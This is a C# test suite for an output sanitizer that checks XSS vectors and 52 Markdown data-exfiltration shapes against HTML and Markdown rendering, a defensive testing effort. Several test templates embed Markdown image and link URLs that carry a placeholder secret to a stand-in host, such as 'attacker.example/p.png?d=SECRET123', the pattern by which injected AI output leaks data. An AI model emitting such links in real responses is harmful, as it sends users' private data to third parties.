using Markdig;

namespace SecureKernel.Tests.Output;

/// <summary>Every vector of ../shared/external, as HTML and as Markdown, and all 52 Markdown exfiltration shapes.</summary>
[TestClass]
public sealed class OutputCorpusTests
{
    private const string Allowed = "trusted.example";

    private static readonly OutputSanitizer s_sanitizer = new(new OutputSanitizerOptions { AllowedHosts = { Allowed } });

    // How a naive GFM-style client renders the safe Markdown: raw HTML on, tables, autolinks (bare URLs and www.),
    // footnotes, task lists, strikethrough. (Markdig's generic-attributes and math extensions are not GFM and not covered.)
    private static readonly MarkdownPipeline s_naiveClient = MarkdownClients.Naive;

    [TestMethod]
    [DataRow("dompurify")]
    [DataRow("htmlsanitizer")]
    [DataRow("owasp")]
    public void XssVectors_AsHtml_LeaveNothingExecutable(string set)
    {
        var vectors = SharedData.XssVectors().Where(v => v.Set == set).ToList();
        if (vectors.Count == 0) Assert.Inconclusive($"No vectors for {set} in ../shared/external.");
        var failures = new List<string>();
        foreach (var (_, id, payload) in vectors)
        {
            var result = s_sanitizer.SanitizeHtml(payload);
            Check(failures, $"{set}#{id} html", result);
        }

        Assert.IsEmpty(failures, string.Join("\n", failures.Take(30)));
    }

    [TestMethod]
    [DataRow("dompurify")]
    [DataRow("htmlsanitizer")]
    [DataRow("owasp")]
    public void XssVectors_AsMarkdown_LeaveNothingExecutable(string set)
    {
        var vectors = SharedData.XssVectors().Where(v => v.Set == set).ToList();
        if (vectors.Count == 0) Assert.Inconclusive($"No vectors for {set} in ../shared/external.");
        var failures = new List<string>();
        foreach (var (_, id, payload) in vectors)
        {
            var result = s_sanitizer.SanitizeMarkdown(payload);
            Check(failures, $"{set}#{id} md", result);
        }

        Assert.IsEmpty(failures, string.Join("\n", failures.Take(30)));
    }

    /// <summary>
    /// Where a vector is embedded for <see cref="XssVectors_NestedInImagesAndLinks_AsMarkdown_LeaveNothingExecutable"/>:
    /// image descriptions (kept, removed, nested in a link, inside a table cell, emphasis or footnote) and link text.
    /// </summary>
    internal static readonly string[] Nestings =
    [
        "![{0}](https://trusted.example/a.png)",
        "![{0}](https://attacker.example/p.png?d=SECRET123)",
        "![x ![{0}](https://attacker.example/p.png) [{0}](https://attacker.example/?d=SECRET123) ![{0}](https://trusted.example/b.png)](https://trusted.example/a.png \"t\")",
        "[{0}](https://trusted.example/)",
        "[{0}](https://attacker.example/?d=SECRET123)",
        "[![{0}](https://trusted.example/a.png)](https://trusted.example/)",
        "| h |\n|---|\n| ![{0}](https://trusted.example/a.png) [{0}](https://trusted.example/) |\n",
        "**_~~![{0}](https://trusted.example/a.png)~~_**",
        "x[^1]\n\n[^1]: ![{0}](https://trusted.example/a.png) [{0}](https://trusted.example/)\n",
    ];

    /// <summary>A vector on one line (so it stays inside the description or link text), embedded at <paramref name="nesting"/>.</summary>
    internal static string Nest(string nesting, string payload) =>
        nesting.Replace("{0}", System.Text.RegularExpressions.Regex.Replace(payload, @"\s*[\r\n]\s*", " "), StringComparison.Ordinal);

    [TestMethod]
    [DataRow("dompurify")]
    [DataRow("htmlsanitizer")]
    [DataRow("owasp")]
    public void XssVectors_NestedInImagesAndLinks_AsMarkdown_LeaveNothingExecutable(string set)
    {
        var vectors = SharedData.XssVectors().Where(v => v.Set == set).ToList();
        if (vectors.Count == 0) Assert.Inconclusive($"No vectors for {set} in ../shared/external.");
        var failures = new List<string>();
        int live = 0;
        foreach (var (_, id, payload) in vectors)
        {
            for (int n = 0; n < Nestings.Length; n++)
            {
                string markdown = Nest(Nestings[n], payload);
                // Control: how many embedded vectors a caption-rendering client would run or load if left as they are.
                if (IndependentDomCheck.Problems(MarkdownClients.RenderWithCaptions(markdown), Allowed).Any(p => p != "attribute id")) live++;
                Check(failures, $"{set}#{id} nesting {n}", s_sanitizer.SanitizeMarkdown(markdown));
            }
        }

        Assert.IsGreaterThan(vectors.Count, live, "control: embedded vectors must be live in a caption-rendering client before sanitizing");
        Assert.IsEmpty(failures, string.Join("\n", failures.Take(30)));
    }

    [TestMethod]
    public void XssVectorsAndShapes_AsMarkdown_WithoutVerification_LeaveNothingExecutable()
    {
        // VerifyOutput=false: nothing re-parses the Markdown path's HTML, so this checks the constrained renderer (and the
        // full path it falls back to) by construction alone, with the two-parse verifier and the independent checker.
        var unverified = new OutputSanitizer(new OutputSanitizerOptions { AllowedHosts = { Allowed }, VerifyOutput = false });
        var inputs = SharedData.XssVectors().Where(v => v.Set is "dompurify" or "htmlsanitizer" or "owasp").Select(v => (v.Set + "#" + v.Id, v.Payload))
            .Concat(SharedData.Shapes().Select(s => (s.Id, s.Markdown))).ToList();
        Assert.IsGreaterThan(600, inputs.Count);
        var failures = new List<string>();
        foreach (var (id, payload) in inputs)
        {
            var result = unverified.SanitizeMarkdown(payload);
            Check(failures, id + " md unverified", result);
            Assert.AreEqual(s_sanitizer.SanitizeMarkdown(payload).Html, result.Html, id + ": verification must not change safe output");
        }

        Assert.IsEmpty(failures, string.Join("\n", failures.Take(30)));
    }

    [TestMethod]
    public void Verifier_VisitsEveryElement_InTreeOrder()
    {
        // The verifier walks the tree itself instead of QuerySelectorAll("*"); on every raw vector (foreign content,
        // tables, templates, framesets, broken nesting) both must give the same elements in the same order.
        var parser = new AngleSharp.Html.Parser.HtmlParser(new AngleSharp.Html.Parser.HtmlParserOptions { IsScripting = true });
        int checkedDocuments = 0;
        foreach (var (set, id, payload) in SharedData.XssVectors())
        {
            using var document = parser.ParseDocument(payload);
            CollectionAssert.AreEqual(document.QuerySelectorAll("*").ToList(), SecureKernel.Output.MarkupVerifier.AllElements(document).ToList(), $"{set}#{id}");
            checkedDocuments++;
        }

        Assert.IsGreaterThan(500, checkedDocuments);
    }

    [TestMethod]
    public void ExfiltrationShapes_All52_NoAutoLoadNoDataLinkToOtherHosts()
    {
        var shapes = SharedData.Shapes();
        Assert.HasCount(52, shapes);
        var failures = new List<string>();
        foreach (var (id, _, _, markdown) in shapes)
        {
            var md = s_sanitizer.SanitizeMarkdown(markdown);
            Check(failures, id + " md", md);
            Assert.IsNotEmpty(md.Findings, id + ": a shape must raise a finding");

            var html = s_sanitizer.SanitizeHtml(Markdown.ToHtml(markdown, s_naiveClient));
            Check(failures, id + " html", html);
        }

        Assert.IsEmpty(failures, string.Join("\n", failures));
    }

    [TestMethod]
    public void ExfiltrationShapes_SecretNeverInAnyUrl_AndAttackerHostNeverClickable()
    {
        var failures = new List<string>();
        foreach (var (id, _, _, markdown) in SharedData.Shapes())
        {
            var md = s_sanitizer.SanitizeMarkdown(markdown);
            foreach (var (label, html) in new[] { ("html", md.Html), ("client", Markdown.ToHtml(md.Markdown!, s_naiveClient)) })
            {
                foreach (var (attr, value) in UrlAttributes(html))
                {
                    string v = value.ToLowerInvariant();
                    if (v.Contains("secret123") || v.Contains("attacker")) failures.Add($"{id} {label}: {attr} keeps the attacker URL");
                }
            }
        }

        Assert.IsEmpty(failures, string.Join("\n", failures));
    }

    [TestMethod]
    public void ExfiltrationShapes_UnderStripQueryAndRemovePolicies_StaySafe()
    {
        var sanitizer = new OutputSanitizer(new OutputSanitizerOptions
        {
            AllowedHosts = { Allowed },
            LinkPolicy = OutputLinkPolicy.StripQuery,
            ImagePolicy = OutputImagePolicy.Remove,
        });
        var failures = new List<string>();
        foreach (var (id, _, _, markdown) in SharedData.Shapes())
        {
            var md = sanitizer.SanitizeMarkdown(markdown);
            foreach (var (html, client) in new[] { (md.Html, false), (Markdown.ToHtml(md.Markdown!, s_naiveClient), true) })
            {
                // Links to other hosts may stay clickable under StripQuery, but never with a query, and nothing auto-loads.
                var problems = IndependentDomCheck.Problems(html, Allowed, "attacker.example")
                    .Where(p => !p.StartsWith("link") && !(client && p == "attribute id")).ToList();
                problems.AddRange(IndependentDomCheck.Problems(html, Allowed).Where(p => p.StartsWith("autoload")));
                if (problems.Count > 0) failures.Add($"{id}: {string.Join(", ", problems.Distinct())}");
                foreach (var (_, value) in UrlAttributes(html))
                {
                    if (value.Contains("attacker", StringComparison.OrdinalIgnoreCase) && value.Contains('?'))
                        failures.Add($"{id}: query kept on a link to a host that is not allowed");
                }
            }
        }

        Assert.IsEmpty(failures, string.Join("\n", failures));
    }

    private static void Check(List<string> failures, string label, SanitizedOutput result)
    {
        if (result.Findings.Any(f => f.Detail == "verify.failed-closed")) failures.Add($"{label}: needed the fail-closed post-check");
        if (result.Markdown is not null && MarkdownClients.RawHtml(result.Markdown) is { Count: > 0 } raw)
            failures.Add($"{label}: raw HTML left in the Markdown: {Trim(string.Join(", ", raw))}");
        foreach (var (html, client) in result.Markdown is null ? [(result.Html, false)]
            : new[] { (result.Html, false), (Markdown.ToHtml(result.Markdown, s_naiveClient), true), (MarkdownClients.RenderWithCaptions(result.Markdown), true) })
        {
            // The client's own renderer adds footnote ids and classes; those are its markup, not the model's.
            var problems = IndependentDomCheck.Problems(html, Allowed).Where(p => !client || p != "attribute id").ToList();
            var verifier = s_sanitizer.Verify(html).Where(v => !client || v is not ("attribute:id" or "attribute:class")).ToList();
            if (problems.Count > 0 || verifier.Count > 0)
                failures.Add($"{label}: {string.Join(", ", problems.Concat(verifier))} :: {Trim(html)}");
        }
    }

    private static string Trim(string s) => s.Length > 200 ? s[..200] + "…" : s;

    private static readonly string[] s_urlAttributeNames = ["href", "src", "srcset", "poster", "background", "action", "formaction", "data", "ping", "style"];

    /// <summary>Every URL-carrying attribute value in the parsed DOM (text that merely looks like markup is ignored).</summary>
    private static List<(string Attribute, string Value)> UrlAttributes(string html)
    {
        using var doc = new AngleSharp.Html.Parser.HtmlParser().ParseDocument(html);
        return doc.All.SelectMany(e => e.Attributes)
            .Where(a => s_urlAttributeNames.Contains(a.Name.ToLowerInvariant()))
            .Select(a => (a.Name, a.Value)).ToList();
    }
}
